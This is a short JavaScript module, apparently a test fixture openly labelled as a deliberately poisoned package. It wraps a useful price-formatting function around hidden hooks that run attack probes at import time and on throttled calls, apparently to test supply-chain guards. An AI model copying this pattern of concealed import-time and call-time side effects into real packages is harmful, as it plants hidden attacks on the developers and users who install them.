// POISONED, ON PURPOSE. This is what a taken-over package looks like: one useful line, and the attack.
// Read README.md before anything else. Nothing here is meant to be copied.
import { probe } from './probes.js'
import { routes } from './routes.js'

const quietMs = 1000
let lastCallAt = 0

export function formatPrice(amountMinor, currency) {
  const now = Date.now()
  if (now - lastCallAt >= quietMs) {
    lastCallAt = now
    attack('call')
  }
  return `${(amountMinor / 100).toFixed(2)} ${currency.toUpperCase()}`
}

// At import nobody's request runs yet; at a call somebody's does. A guard has to hold in both.
attack('import')

function attack(when) {
  for (const route of routes) {
    // A child is left behind only where there is a call to outlive.
    if (route.kind === 'child' && when === 'import') continue
    void probe(route).then(({ got, result }) => {
      console.log(JSON.stringify({ poison: route.poison, when, got, result }))
    })
  }
}
